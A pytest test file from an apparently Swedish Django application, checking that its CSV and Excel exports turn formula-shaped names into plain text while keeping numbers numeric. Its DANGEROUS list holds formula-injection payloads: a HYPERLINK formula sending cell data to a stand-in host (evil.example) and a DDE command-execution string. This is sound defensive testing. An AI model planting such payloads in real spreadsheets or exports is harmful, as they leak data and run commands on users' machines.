"""Formula injection: a text that starts like a formula (a unit or municipality name someone
typed on the admin pages) leaves a CSV or Excel export as plain text, never as a live formula,
while numbers (negative ones too) stay numbers."""

from __future__ import annotations

import datetime
import io
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from samverkan import tables
from samverkan.capacity.tests.helpers import at, local, report
from samverkan.organisations.models import Municipality
from samverkan.placements import services as placements
from samverkan.placements.models import DayRate
from samverkan.testing import csv_rows, login

pytestmark = pytest.mark.django_db

LINK = '=HYPERLINK("https://evil.example/?leak="&A2,"Öppna")'
DANGEROUS = [LINK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]


def _csv(content: bytes) -> list[list[str]]:
    return csv_rows(content)


def _sheet_cells(content: bytes):
    """Every cell of every sheet, as openpyxl reads them back (formulas as data type 'f')."""
    workbook = load_workbook(io.BytesIO(content))
    return [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]


def _no_formulas(content: bytes) -> None:
    formulas = [cell.value for cell in _sheet_cells(content) if cell.data_type == "f"]
    assert formulas == []


def test_csv_cells_that_start_like_a_formula_become_text():
    rows = _csv(tables.csv_text(["name"], [[text] for text in DANGEROUS]).encode())
    assert [r[0] for r in rows[1:]] == ["'" + text for text in DANGEROUS]


def test_numbers_stay_numbers_in_both_formats():
    row = [-5, -2.5, Decimal("-1500.00"), "-1500.00", "12", 0, None, "Falun"]
    assert _csv(tables.csv_text(list("abcdefgh"), [row]).encode())[1] == [
        "-5",
        "-2,5",  # Swedish Excel's decimal comma
        "-1500,00",
        "-1500.00",  # a text stays as it is
        "12",
        "0",
        "",
        "Falun",
    ]
    cells = _sheet_cells(tables.xlsx_bytes([tables.Sheet(list("abcdefgh"), [row])]))[8:]
    assert [c.value for c in cells[:3]] == [-5, -2.5, -1500]
    assert [c.data_type for c in cells[:3]] == ["n", "n", "n"]


def test_excel_cells_that_start_like_a_formula_are_text_cells():
    content = tables.xlsx_bytes([tables.Sheet(["name"], [[text] for text in DANGEROUS])])
    _no_formulas(content)
    cells = _sheet_cells(content)[1:]

    # Shown as typed. A lone carriage return may come back as a newline: the standard library's
    # XML parser normalises it, lxml (when installed) does not; either is the typed text.
    def typed(text: str) -> str:
        return text.replace("\r", "\n")

    assert [typed(cell.value) for cell in cells] == [typed(text) for text in DANGEROUS]
    assert {cell.data_type for cell in cells} == {"s"}


def test_the_capacity_overview_exports_a_formula_shaped_unit_name_as_text(client, world):
    world.lunden.name = LINK
    world.lunden.save()
    report(world.lunden, world.lunden_staff)
    login(client, world.region_coordinator)
    rows = _csv(client.get("/kapacitet/export.csv?county=20").content)
    assert "'" + LINK in [row[2] for row in rows]
    _no_formulas(client.get("/kapacitet/export.xlsx?county=20").content)


def test_the_settlement_exports_a_formula_shaped_unit_name_as_text(client, world):
    world.lunden.name = LINK
    world.lunden.save()
    report(world.lunden, world.lunden_staff, physical=40, staffed=30, occupied=10)
    DayRate.objects.create(county_id="20", valid_from=datetime.date(2026, 1, 1), amount=Decimal("1000"))
    by = world.avesta_coordinator
    request = placements.request_create(
        by=by, from_organisation=world.avesta, places=1, wanted_from=datetime.date(2026, 3, 2), to_unit=world.lunden
    )
    offer = placements.offer_create(request=request, unit=world.lunden, places=1, by=world.falun_coordinator)
    placements.offer_accept(offer=offer, by=by)
    placements.request_arrive(request=request, by=by, on=datetime.date(2026, 3, 2))
    placements.request_end(request=request, by=by, on=datetime.date(2026, 3, 6))
    login(client, world.region_coordinator)
    page = "/platser/avrakning/?county=20&month=2026-03"
    with at(local(2026, 4, 2, 12)):
        rows = _csv(client.get(page + "&format=csv").content)
        xlsx = client.get(page + "&format=xlsx").content
    assert "'" + LINK in [row[3] for row in rows]
    assert "4000,00" in [row[8] for row in rows]  # amounts unchanged, with Swedish Excel's decimal comma
    _no_formulas(xlsx)


def test_the_flow_statistics_export_a_formula_shaped_municipality_name_as_text(client, world):
    Municipality.objects.filter(code="2080").update(name=LINK)
    login(client, world.region_coordinator)
    query = "?county=20&from=2025-03-01&to=2025-03-31&granularity=week&municipality=2080"
    rows = _csv(client.get("/flode/statistik.csv" + query).content)
    assert "'" + LINK in [row[1] for row in rows]
    _no_formulas(client.get("/flode/statistik.xlsx" + query).content)
